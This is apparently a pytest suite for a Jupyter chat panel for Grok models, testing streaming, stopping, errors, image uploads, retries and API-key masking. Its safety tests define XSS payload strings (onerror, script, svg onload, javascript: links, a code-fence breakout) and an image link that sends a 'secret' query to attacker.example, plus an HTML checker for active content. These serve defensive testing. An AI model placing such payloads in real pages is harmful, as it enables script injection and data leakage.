"""ChatPanel without a browser: widgets driven by value changes and .click(), against the stand-in."""

from __future__ import annotations

import _thread
import datetime
import html
import io
import re
import threading
import time
from html.parser import HTMLParser
from unittest import mock

import ipywidgets as widgets
import pytest

from grok_magic.conversation import Conversation
from grok_magic.errors import (
    BadRequestError,
    InputError,
    InterruptedByUser,
    MissingKeyError,
    StreamInterruptedError,
)
from grok_magic.notebook.panel import AnswerView, ChatPanel
from grok_magic.settings import Settings
from grok_magic.xai.client import GrokClient
from tests.support.magic_helpers import wait_until
from tests.support.panel_views import all_widgets, answer_of, by_class, shown_html, shown_text
from tests.support.xai_standin import Fault, Reply

SLOW_TEXT = " ".join(f"word{i}" for i in range(400))  # ~400 events: 20 s at 0.05 s each
XSS = (
    'Look: <img src=x onerror="window.__grok_xss=1"> and <script>window.__grok_xss=2</script> '
    "**bold** ![leak](https://attacker.example/p.png?q=secret)"
)
HOSTILE = XSS + (
    "\n\n[click me](javascript:alert(1)) [press](  JaVaScRiPt:alert(2)) "
    '<a href="javascript:alert(3)">x</a> <svg onload="window.__grok_xss=4"></svg>\n\n'
    "```html\n</code></pre><script>window.__grok_xss=5</script>\n```\n\n"
    "![p](javascript:alert(6)) ![q](data:image/png;base64,AAAA)"
)





class Page(HTMLParser):
    """What a browser would build from some HTML: its elements (tag, attributes) and its text."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.texts: list[str] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag, attrs) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    handle_startendtag = handle_starttag

    def handle_data(self, data) -> None:
        self.texts.append(data)

    @property
    def text(self) -> str:
        return "".join(self.texts)

    def find(self, tag: str) -> list[dict[str, str]]:
        return [attrs for t, attrs in self.elements if t == tag]


ACTIVE_TAGS = {"script", "style", "iframe", "object", "embed", "svg", "math", "form", "input",
               "button", "link", "meta", "base", "frame", "video", "audio", "source", "template"}


def assert_inert(markup: str, allowed_images=()) -> Page:
    """No live HTML in `markup`: no active element, no event handler, no link other than
    http(s)/mailto, no image but the ones the user sent."""
    page = Page(markup)
    for tag, attrs in page.elements:
        assert tag not in ACTIVE_TAGS, (tag, markup)
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name, markup)
            assert name not in ("srcdoc", "formaction", "action", "xlink:href"), (tag, name)
            if name in ("href", "src"):
                scheme = "".join(html.unescape(value).split()).lower().partition(":")[0]
                assert scheme in ("http", "https", "mailto"), (tag, name, value)
            if name == "style":
                assert "url(" not in value.lower() and "expression" not in value.lower()
        if tag == "img":
            assert attrs.get("src") in set(allowed_images), (attrs, markup)
    return page


def png_bytes(size=(40, 30), color=(200, 30, 30)) -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", size, color).save(out, format="PNG")
    return out.getvalue()


def upload_entry(name: str, data: bytes, mime: str = "image/png") -> dict:
    return {"name": name, "type": mime, "size": len(data), "content": memoryview(data),
            "last_modified": datetime.datetime.now(datetime.timezone.utc)}


@pytest.fixture
def panel(xai_env) -> ChatPanel:
    p = ChatPanel(model="grok-4.3", models=["grok-4.3", "grok-3-mini"])
    yield p
    if p.busy:
        p.stop()
        p.wait(5)


# -- one turn ------------------------------------------------------------------------------
def test_send_streams_markdown_and_returns_the_response(panel, xai_env):
    xai_env.enqueue(Reply(content="Hello **world**\n\nSecond paragraph."))
    response = panel.send("Hi there")
    assert response.text == "Hello **world**\n\nSecond paragraph." and response.complete
    assert panel.conversation.messages == [
        {"role": "user", "content": "Hi there"},
        {"role": "assistant", "content": response.text},
    ]
    assert shown_text(panel) == "Hello **world**\n\nSecond paragraph."
    page = assert_inert(shown_html(panel))
    assert " ".join(page.text.split()) == "Hello world Second paragraph."  # rendered, not source
    assert "<strong>world</strong>" in shown_html(panel) and len(page.find("p")) == 2
    user, answer = panel.transcript.children
    assert "grok-user" in user._dom_classes and "grok-answer" in answer._dom_classes
    assert not panel.busy and not panel.send_button.disabled and panel.stop_button.disabled
    assert panel.error is None and panel.error_box.layout.display == "none"


def test_usage_widget_after_each_answer_and_panel_totals(panel, xai_env):
    first = panel.send("one")
    second = panel.send("two")
    usages = by_class(panel, "grok-usage")
    assert len(usages) == 2
    assert f"{second.usage.total_tokens:,}" in usages[-1].value
    total = first.usage.total_tokens + second.usage.total_tokens
    assert panel.totals.total_tokens == total
    assert panel.total_cost == pytest.approx(first.cost + second.cost)
    assert f"{total:,} tokens" in panel.totals_view.value and "2 answers" in panel.totals_view.value
    assert f"session</b> {total:,} tokens" in usages[-1].value


def test_model_and_system_prompt_are_sent(panel, xai_env):
    panel.model = "grok-3-mini"
    panel.system_box.value = "Answer in French."
    panel.send("Hi")
    body = xai_env.answer_requests[-1].as_chat
    assert body["model"] == "grok-3-mini" and body["stream"] is True
    assert body["messages"][0] == {"role": "system", "content": "Answer in French."}
    assert panel.conversation.system is None  # the field is per request, not stored


def test_second_turn_carries_the_history(panel, xai_env):
    panel.send("first")
    panel.send("second")
    roles = [m["role"] for m in xai_env.answer_requests[-1].as_chat["messages"]]
    assert roles == ["user", "assistant", "user"]


def test_reasoning_is_shown_collapsed_as_plain_text(panel, xai_env):
    xai_env.enqueue(Reply(content="Answer", reasoning="<b>thinking</b> hard"))
    panel.send("why?")
    (accordion,) = by_class(panel, "grok-reasoning")
    assert accordion.selected_index is None
    assert accordion.children[0].outputs[0] == {
        "output_type": "stream", "name": "stdout", "text": "<b>thinking</b> hard"}


# -- the Send button: off the main thread, no double sends ---------------------------------
def test_send_click_returns_at_once_and_disables_send(panel, xai_env):
    xai_env.enqueue(Reply(content="a b c d e f g h", delay=0.05))
    panel.input.value = "Hello"
    started = time.monotonic()
    panel.send_button.click()
    assert time.monotonic() - started < 0.5
    assert panel.busy and panel.send_button.disabled and not panel.stop_button.disabled
    assert panel.input.value == ""  # the question moved to the transcript
    panel.send_button.click()  # a second click while streaming does nothing
    with pytest.raises(InputError, match="still streaming"):
        panel.send("again")
    response = panel.wait(10)
    assert response.text == "a b c d e f g h"
    assert len(xai_env.answer_requests) == 1
    assert not panel.send_button.disabled and panel.stop_button.disabled
    assert not panel.retry_button.disabled


def test_widgets_are_updated_from_the_worker_thread_without_output_capture(panel, xai_env):
    xai_env.enqueue(Reply(content="x " * 20, delay=0.02))
    threads = set()
    original = AnswerView._set

    def spy(self, html_text, text=None):
        threads.add(threading.current_thread().name)
        return original(self, html_text, text)

    with mock.patch.object(AnswerView, "_set", spy):
        panel.send("go")
    assert threads == {"grok-panel-answer"}
    outputs = [w for w in all_widgets(panel.widget) if isinstance(w, widgets.Output)]
    assert outputs and all(o.msg_id == "" for o in outputs)  # `with output:` would set msg_id


def test_updates_are_throttled_and_finished_blocks_frozen(panel, xai_env):
    text = "\n\n".join(f"Paragraph {i} " + "word " * 10 for i in range(150))
    xai_env.enqueue(Reply(content=text, delay=0.0005))
    started = time.monotonic()
    panel.send("long")
    elapsed = time.monotonic() - started
    view = answer_of(panel)
    assert view.updates <= elapsed / 0.1 + 5  # ~10 updates a second at most
    assert len(view.block_widgets) > 1  # finished paragraphs were frozen
    assert shown_text(panel) == text
    page = assert_inert(shown_html(panel))
    assert len(page.find("p")) == 150 and "Paragraph 149 word" in page.text


def test_frozen_blocks_are_grouped_so_each_addition_stays_small():
    now = [0.0]
    view = AnswerView(clock=lambda: now[0])
    paragraphs = [f"Paragraph {i}: " + "lorem ipsum " * 20 for i in range(40)]
    for paragraph in paragraphs:
        now[0] += 0.2  # every delta is past the throttle
        view.feed(paragraph + "\n\n")
    view.finish()
    groups = view.blocks.children
    # A block is frozen once the next one starts (the parser's own split), so the last paragraph
    # stays the tail until the answer ends: 39 frozen blocks and the final tail.
    assert len(view.block_widgets) == 40 and len(groups) == 3
    assert all(len(g.children) <= 16 for g in groups)
    assert shown_text(view) == "".join(p + "\n\n" for p in paragraphs)
    assert len(Page(shown_html(view)).find("p")) == 40
    assert view.updates == 41


# -- Stop -----------------------------------------------------------------------------------
def test_stop_mid_stream_keeps_the_partial_answer_marked_stopped(panel, xai_env):
    xai_env.enqueue(Reply(content=SLOW_TEXT, delay=0.05))
    panel.input.value = "Tell me a long story"
    panel.send_button.click()
    wait_until(lambda: "word3" in Page(shown_html(panel)).text)  # the live tail: HTML only
    started = time.monotonic()
    panel.stop_button.click()
    response = panel.wait(10)
    assert time.monotonic() - started < 2
    assert response.stopped and response.partial
    assert response.text and response.text != SLOW_TEXT
    assert shown_text(panel) == response.text
    assert response.text.strip() in Page(shown_html(panel)).text
    (note,) = by_class(panel, "grok-stopped")
    assert "Stopped" in note.value
    assert panel.conversation.messages == []  # a partial answer never joins the history
    assert panel.error is None and panel.input.value == ""
    assert not panel.send_button.disabled


def test_a_stopped_answer_shows_its_cost_as_an_estimate(panel, xai_env):
    exact = panel.send("first")
    (usage,) = by_class(panel, "grok-usage")
    assert "≈" not in usage.value and "estimate" not in usage.value  # xAI's own figures
    assert f"total</b> {exact.usage.total_tokens:,}<" in usage.value
    xai_env.enqueue(Reply(content=SLOW_TEXT, delay=0.05))
    panel.input.value = "Tell me a long story"
    panel.send_button.click()
    wait_until(lambda: "word3" in Page(shown_html(panel)).text)
    panel.stop_button.click()
    response = panel.wait(10)
    assert response.stopped and not response.cost_exact and response.cost > 0
    usage = by_class(panel, "grok-usage")[-1]
    assert re.search(r"cost</b> ≈ \$\d+\.\d+ \(estimated tokens, priced from (xAI&#x27;s price "
                     r"list of \d{4}-\d\d-\d\d|built-in prices of \d{4}-\d\d)\)", usage.value), usage.value
    assert re.search(r"completion</b> ≈ \d", usage.value) and "n/a" not in usage.value
    assert "≈ $" in panel.totals_view.value and "1 estimated" in panel.totals_view.value


def test_stop_while_waiting_for_the_first_byte(panel, xai_env):
    xai_env.enqueue(Reply(content="late answer", first_delay=0.5))
    panel.input.value = "q"
    panel.send_button.click()
    time.sleep(0.1)
    panel.stop()
    response = panel.wait(10)
    assert response.stopped and "late answer" not in response.text


def test_kernel_interrupt_stops_a_blocking_send(panel, xai_env, default_sigint):
    xai_env.enqueue(Reply(content=SLOW_TEXT, delay=0.05))
    timer = threading.Timer(0.6, _thread.interrupt_main)
    timer.start()
    try:
        with pytest.raises(InterruptedByUser) as info:
            panel.send("long please")
    finally:
        timer.cancel()
    assert info.value.response.stopped
    assert by_class(panel, "grok-stopped")


# -- errors ---------------------------------------------------------------------------------
def test_http_error_is_one_paragraph_and_the_text_stays_in_the_input(panel, xai_env):
    xai_env.enqueue(Fault.credits(429))
    panel.input.value = "my careful question"
    panel.send_button.click()
    panel.wait(10)
    assert panel.input.value == "my careful question"
    assert panel.transcript.children == ()  # nothing arrived: the turn went back to the input
    assert "Out of credits (HTTP 429)" in panel.error_box.value
    assert panel.error_box.value.count("<p") == 1
    assert panel.error_box.layout.display != "none"
    assert not panel.send_button.disabled
    xai_env.enqueue(Reply(content="fine now"))
    panel.send_button.click()
    assert panel.wait(10).text == "fine now"
    assert panel.error_box.layout.display == "none"


def test_missing_key_shows_how_to_set_one(xai_env, monkeypatch):
    monkeypatch.delenv("XAI_API_KEY")
    panel = ChatPanel(models=["grok-4"])
    panel.input.value = "hello?"
    panel.send_button.click()
    panel.wait(10)
    assert isinstance(panel.error, MissingKeyError)
    assert "XAI_API_KEY" in panel.error_box.value and panel.input.value == "hello?"
    monkeypatch.setenv("XAI_API_KEY", xai_env.api_key)  # a key set later is picked up
    panel.send_button.click()
    assert panel.wait(10).complete


def test_programmatic_send_raises_the_error_after_showing_it(panel, xai_env):
    xai_env.enqueue(Fault(400, {"code": "x", "error": "Bad <b>thing</b>"}))
    with pytest.raises(BadRequestError):
        panel.send("q")
    assert "Bad &lt;b&gt;thing&lt;/b&gt;" in panel.error_box.value
    assert panel.input.value == ""  # only text typed in the input goes back there


def test_stream_cut_mid_answer_keeps_partial_text_marked_incomplete(panel, xai_env):
    xai_env.enqueue(Reply(content="one two three four five six", cut_after=4))
    panel.input.value = "q"
    panel.send_button.click()
    panel.wait(10)
    assert isinstance(panel.error, StreamInterruptedError)
    (note,) = by_class(panel, "grok-incomplete")
    assert "Incomplete" in note.value and "one" in shown_text(panel)
    assert shown_text(panel) == panel._last.response.text and "one" in Page(shown_html(panel)).text
    assert panel.input.value == "q" and panel.conversation.messages == []


def test_send_of_nothing_is_refused(panel):
    panel.send_button.click()
    assert isinstance(panel.error, InputError) and not panel.busy
    with pytest.raises(InputError):
        panel.send("   ")


# -- safety ---------------------------------------------------------------------------------
def test_model_html_never_reaches_the_page_as_html(panel, xai_env):
    """Every HTML the answer's widgets receive, each streamed tail included, is inert."""
    xai_env.enqueue(Reply(content=HOSTILE, chunk_chars=3, delay=0.001))
    pushed: list[str] = []
    original = AnswerView._set

    def spy(self, html_text, text=None):
        pushed.append(html_text)
        return original(self, html_text, text)

    with mock.patch.object(AnswerView, "_set", spy):
        panel.send("hi")
    assert len(pushed) >= 2  # the live tail was shown before the answer ended
    for markup in pushed:
        assert "<script" not in markup.lower() and "<svg" not in markup.lower()
        assert_inert(markup)  # no images at all: the user sent none
    final = shown_html(panel)
    page = assert_inert(final)
    assert page.find("img") == [] and page.find("script") == []
    assert all(not name.startswith("on") for _tag, attrs in page.elements for name in attrs)
    # Model HTML shows as the text it is; the Markdown around it still renders.
    assert '<img src=x onerror="window.__grok_xss=1">' in page.text
    assert "<script>window.__grok_xss=2</script>" in page.text
    assert "<strong>bold</strong>" in final
    # An image the user did not send becomes a link (loading it could leak data) ...
    (leak,) = [a for a in page.find("a") if "attacker.example" in a["href"]]
    assert leak["href"] == "https://attacker.example/p.png?q=secret"
    # ... and no link may run script.
    hrefs = [a["href"] for a in page.find("a")]
    assert all(h.startswith(("https://", "http://", "mailto:")) for h in hrefs), hrefs
    assert "click me" in page.text and "press" in page.text
    assert shown_text(panel) == HOSTILE  # the plain twin is the answer as sent, never HTML
    for w in all_widgets(panel.widget):
        if isinstance(w, widgets.HTML):  # notes, usage, totals: nothing of the answer
            assert "__grok_xss" not in w.value and "attacker" not in w.value


def test_images_the_user_sent_by_url_may_show(panel, xai_env):
    url = xai_env.serve_bytes("cat.png", png_bytes(), "image/png").replace("127.0.0.1", "example.com")
    xai_env.enqueue(Reply(content=f"Here: ![cat]({url}) and ![x](https://other.example/x.png)"))
    panel.send("look", images=[{"type": "image_url", "image_url": {"url": url}}])
    page = assert_inert(shown_html(panel), allowed_images={url})
    assert page.find("img") == [{"src": url, "alt": "cat"}]
    assert [a["href"] for a in page.find("a")] == ["https://other.example/x.png"]
    assert shown_text(panel) == f"Here: ![cat]({url}) and ![x](https://other.example/x.png)"


def test_a_later_answer_may_not_show_an_image_sent_only_in_a_later_turn(panel, xai_env):
    """Images are allowed per answer: only URLs the user had sent by then."""
    url = "https://example.com/later.png"
    xai_env.enqueue(Reply(content=f"Guess: ![later]({url})"), Reply(content=f"Now: ![later]({url})"))
    panel.send("first")
    first = answer_of(panel)
    assert_inert(shown_html(first))
    assert Page(shown_html(first)).find("img") == []
    panel.send("second", images=[{"type": "image_url", "image_url": {"url": url}}])
    assert Page(shown_html(panel)).find("img") == [{"src": url, "alt": "later"}]


# -- images ---------------------------------------------------------------------------------
def test_upload_shows_removable_thumbnails_and_sends_them(panel, xai_env):
    panel.upload.value = (upload_entry("red.png", png_bytes()),
                          upload_entry("blue.jpg", png_bytes(color=(0, 0, 200)), "image/jpeg"))
    assert panel.upload.value == ()
    thumbs = by_class(panel, "grok-thumb")
    assert len(thumbs) == 2 and len(panel.pending_images) == 2
    remove = [w for w in all_widgets(thumbs[1]) if "grok-thumb-remove" in w._dom_classes][0]
    remove.click()
    assert len(by_class(panel, "grok-thumb")) == 1
    panel.input.value = "What colour?"
    panel.send_button.click()
    panel.wait(10)
    assert panel.pending_images == [] and by_class(panel, "grok-thumb") == []
    content = xai_env.answer_requests[-1].as_chat["messages"][-1]["content"]
    assert [p["type"] for p in content] == ["text", "image_url"]
    assert content[1]["image_url"]["url"].startswith("data:image/")
    (image,) = by_class(panel, "grok-user-image")
    assert image.format == "png" and bytes(image.value).startswith(b"\x89PNG")


def test_upload_of_a_non_image_is_refused_inline(panel):
    panel.upload.value = (upload_entry("notes.txt", b"hello", "text/plain"),)
    assert "notes.txt is not a PNG, JPEG, WebP or GIF image" in panel.error_box.value
    panel.upload.value = (upload_entry("broken.png", b"not really a png"),)
    assert "broken.png:" in panel.error_box.value
    assert panel.pending_images == []


def test_programmatic_send_with_images(panel, xai_env):
    response = panel.send("Describe", images=[png_bytes()])
    assert "I received 1 image(s)" in response.text
    assert len(by_class(panel, "grok-user-image")) == 1


def test_failed_send_gives_the_images_back(panel, xai_env):
    panel.attach(png_bytes(), name="red.png")
    panel.input.value = "colour?"
    xai_env.enqueue(Fault(503))
    xai_env.enqueue(Fault(503), Fault(503))  # retries too
    panel.send_button.click()
    panel.wait(30)
    assert panel.input.value == "colour?" and len(panel.pending_images) == 1


# -- Retry, New chat, Copy ------------------------------------------------------------------
def test_retry_replaces_the_last_answer(panel, xai_env):
    xai_env.enqueue(Reply(content="first try"), Reply(content="second try"))
    panel.send("Question")
    response = panel.retry()
    assert response.text == "second try"
    assert panel.conversation.messages[-1] == {"role": "assistant", "content": "second try"}
    assert len(panel.conversation.messages) == 2 and len(panel.transcript.children) == 2
    first, second = xai_env.answer_requests
    assert first.as_chat["messages"] == second.as_chat["messages"]


def test_retry_after_an_error_clears_the_restored_input(panel, xai_env):
    xai_env.enqueue(Fault(400), Reply(content="ok"))
    panel.input.value = "retry me"
    panel.send_button.click()
    panel.wait(10)
    assert panel.input.value == "retry me"
    panel.retry_button.click()
    assert panel.wait(10).text == "ok"
    assert panel.input.value == "" and len(panel.conversation.messages) == 2


def test_new_chat_clears_turns_but_keeps_totals(panel, xai_env):
    panel.send("one")
    tokens = panel.totals.total_tokens
    panel.new_button.click()
    assert panel.transcript.children == () and panel.conversation.messages == []
    assert panel.totals.total_tokens == tokens and panel.retry_button.disabled


def test_copy_shows_the_answer_markdown(panel, xai_env):
    xai_env.enqueue(Reply(content="# Title\n\n`code` and **bold**"))
    panel.send("md")
    (copy,) = by_class(panel, "grok-copy")
    assert by_class(panel, "grok-copy-text") == []
    copy.click()
    (text,) = by_class(panel, "grok-copy-text")
    assert text.value == "# Title\n\n`code` and **bold**"
    copy.click()
    assert text.layout.display == "none"


# -- construction ---------------------------------------------------------------------------
def test_model_picker_lists_models_when_reachable(xai_env):
    panel = ChatPanel(model="grok-4")
    panel._models_thread.join(10)
    assert panel.model == "grok-4"
    assert "grok-4.3" in panel.model_picker.options and "grok-3-mini" in panel.model_picker.options


def test_model_picker_keeps_the_default_when_unreachable():
    client = GrokClient(Settings.load(api_key="xai-test", base_url="http://127.0.0.1:9", max_retries=0))
    panel = ChatPanel(client=client)
    panel._models_thread.join(10)
    assert panel.model_picker.options == ("grok-4.3",)


def test_shared_conversation_shows_its_history_and_grows(xai_env):
    convo = Conversation(system="Be brief.")
    convo.messages += [{"role": "user", "content": "earlier"},
                       {"role": "assistant", "content": "earlier **answer**"}]
    panel = ChatPanel(conversation=convo, models=["grok-4"])
    assert panel.system == "Be brief." and len(panel.transcript.children) == 2
    earlier = [w for w in all_widgets(panel.transcript.children[1]) if isinstance(w, widgets.Output)]
    (data,) = [o.outputs[0]["data"] for o in earlier if o.outputs]
    assert data["text/plain"] == "earlier **answer**"
    assert "<strong>answer</strong>" in data["text/html"] and assert_inert(data["text/html"])
    panel.send("now")
    assert panel.conversation is convo and len(convo.messages) == 4
    assert xai_env.answer_requests[-1].as_chat["messages"][0]["content"] == "Be brief."


def test_panel_displays_as_a_widget(panel):
    bundle = panel._repr_mimebundle_()
    assert bundle["application/vnd.jupyter.widget-view+json"]["model_id"] == panel.widget.model_id
    assert bundle["text/plain"].startswith("<ChatPanel")
    for css in ("grok-panel", "grok-input", "grok-send", "grok-stop", "grok-transcript", "grok-upload",
                "grok-model", "grok-system", "grok-new", "grok-retry", "grok-error"):
        assert by_class(panel, css), css


def test_grok_chat_magic_shows_a_panel_sharing_the_conversation(xai_env):
    from IPython.core.interactiveshell import InteractiveShell

    from grok_magic.notebook.magics import GrokMagics

    shell = InteractiveShell.instance()
    magics = GrokMagics(shell=shell)
    shell.register_magics(magics)  # the registered instance is the one %grok calls
    panel = shell.run_line_magic("grok", "chat")
    assert isinstance(panel, ChatPanel) and shell.user_ns["_grok_panel"] is panel
    assert panel.conversation is magics.conversation
    panel._models_thread.join(10)
    panel.send("hello from the panel")
    assert magics.conversation.turns == 1


def test_a_key_the_model_echoes_is_masked_even_split_over_updates(xai_env):
    """The key arriving in pieces, each flushed on its own, is masked in what is shown, in the
    plain twin (synced state, saved with the notebook) and in Copy Markdown."""
    import json

    from tests.support.xai_standin import FAKE_KEY

    p = ChatPanel(model="grok-4.3", models=["grok-4.3"])
    answer = f"Your key is {FAKE_KEY} — keep it safe."
    xai_env.enqueue(Reply(content=answer, chunk_chars=4, delay=0.12))
    p.send("What is my key?")
    view = answer_of(p)
    assert view.updates >= 5  # the key was shown over several updates
    assert shown_text(view) == "Your key is *** — keep it safe."
    assert FAKE_KEY not in shown_html(view) and "***" in Page(shown_html(view)).text
    view.copy_button.click()
    assert view.copy_text.value == "Your key is *** — keep it safe."
    blob = json.dumps([w.get_state() for w in all_widgets(p.widget)], default=repr)
    for start in range(len(FAKE_KEY) - 8):
        assert FAKE_KEY[start:start + 8] not in blob


def test_key_never_in_widget_state(xai_env, monkeypatch):
    """Every widget's synced state (what a saved notebook keeps) is free of the key."""
    import json

    from tests.support.xai_standin import FAKE_KEY

    p = ChatPanel(model="grok-4.3", models=["grok-4.3"])
    p.send("Hello")
    echo = {"code": "x", "error": f"leak {FAKE_KEY}"}
    xai_env.enqueue(*[Fault(500, body=echo) for _ in range(3)])
    with pytest.raises(Exception):  # noqa: B017 - any GrokError; the state is what matters
        p.send("Again")
    monkeypatch.setenv("XAI_API_KEY", "xai-yetanotherwrongkey42")
    with pytest.raises(Exception):  # noqa: B017
        ChatPanel(model="grok-4.3", models=["grok-4.3"]).send("Wrong key")
    states = [w.get_state() for w in widgets.widget._instances.values()]
    blob = json.dumps(states, default=repr)
    assert FAKE_KEY not in blob and "xai-yetanotherwrongkey42" not in blob
    assert "leak ***" in blob  # the server's echo was shown, redacted


def test_enter_in_the_input_sends(panel, xai_env):
    """The input's front end sends {"type": "submit", "text"} on Enter: that message sends."""
    panel.input._handle_message(panel.input, {"type": "submit", "text": "Hi via Enter"}, [])
    panel.wait(10)
    assert xai_env.answer_requests[-1].as_chat["messages"][-1]["content"] == "Hi via Enter"
    assert panel.input.value == ""
    panel.input.submit("   ")  # an empty Enter sends nothing and shows why
    assert len(xai_env.answer_requests) == 1


def test_typed_text_goes_through_the_one_user_turn_builder(panel, xai_env):
    """Like a %%grok cell: an image URL typed in the panel is sent as an image, in place."""
    panel.send("Compare https://example.com/cat.png with this", images=[png_bytes()])
    content = xai_env.answer_requests[-1].as_chat["messages"][-1]["content"]
    assert [p["type"] for p in content] == ["text", "image_url", "text", "image_url"]
    assert content[1]["image_url"]["url"] == "https://example.com/cat.png"


# -- rough edges: a message typed while streaming, the shared totals, the attachment's remove -----
def test_enter_while_an_answer_streams_queues_the_message_and_says_so(panel, xai_env):
    xai_env.enqueue(Reply(content="first answer " * 8, delay=0.03))
    xai_env.enqueue(Reply(content="second answer"))
    panel.input.submit("First question")
    assert panel.busy
    panel.input.submit("Second question, typed while the first streams")
    # Not ignored: taken from the box and said, waiting for the answer in flight.
    assert panel.input.value == "" and panel.queue_note.layout.display != "none"
    assert "Waiting: “Second question, typed while the first streams” is sent when this " \
           "answer ends" in html.unescape(panel.queue_note.value)
    assert len(xai_env.answer_requests) <= 1
    panel.input.submit("A third")  # one waits at most; the rest stays in the box
    assert panel.input.value == "A third" and "already waiting" in panel.queue_note.value
    wait_until(lambda: len(xai_env.answer_requests) == 2 and not panel.busy, 20)
    panel.wait(10)
    asked = [r.as_chat["messages"][-1]["content"] for r in xai_env.answer_requests]
    assert asked == ["First question", "Second question, typed while the first streams"]
    assert shown_text(panel) == "second answer"
    assert panel.queue_note.layout.display == "none" and panel.input.value == "A third"


def test_a_waiting_message_goes_back_to_the_box_when_the_answer_before_fails(panel, xai_env):
    xai_env.enqueue(Fault(400, {"code": "x", "error": "Bad request"}, delay=0.3))
    panel.input.submit("First question")
    panel.input.submit("Second question")
    wait_until(lambda: not panel.busy, 20)
    assert len(xai_env.answer_requests) >= 1
    assert all(r.as_chat["messages"][-1]["content"] == "First question"
               for r in xai_env.answer_requests)  # the second was never sent
    # Nothing typed is lost: the failed question and the waiting one are both in the box.
    assert panel.input.value == "First question\n\nSecond question"
    assert "not sent, since the answer before it failed" in panel.queue_note.value


def test_a_shared_panel_totals_count_the_cells_too(xai_env):
    from IPython.core.interactiveshell import InteractiveShell

    from grok_magic.notebook.magics import GrokMagics

    shell = InteractiveShell.instance()
    magics = GrokMagics(shell=shell)
    shell.register_magics(magics)
    shell.run_cell_magic("grok", "-q", "a cell's question")
    panel = shell.run_line_magic("grok", "chat")
    panel._models_thread.join(10)
    assert "With the cells of this conversation: 1 answer" in panel.totals_view.value
    panel.send("hello from the panel")
    value = panel.totals_view.value
    assert "Panel total: 1 answer" in value
    assert "With the cells of this conversation: 2 answers" in value
    cost = magics.conversation.total_cost
    assert cost > panel.total_cost > 0


def test_attachments_have_a_small_remove_button_and_the_system_field_keeps_its_label(panel):
    panel.attach(png_bytes(), name="red.png")
    (remove,) = [w for w in all_widgets(by_class(panel, "grok-thumb")[0])
                 if "grok-thumb-remove" in w._dom_classes]
    assert remove.icon == "times" and remove.description == "" and remove.layout.width == "28px"
    assert remove.tooltip == "Remove red.png"
    panel.system_box.value = "Answer in French."
    assert panel.system_box.description == "System prompt"  # a label, not only a placeholder
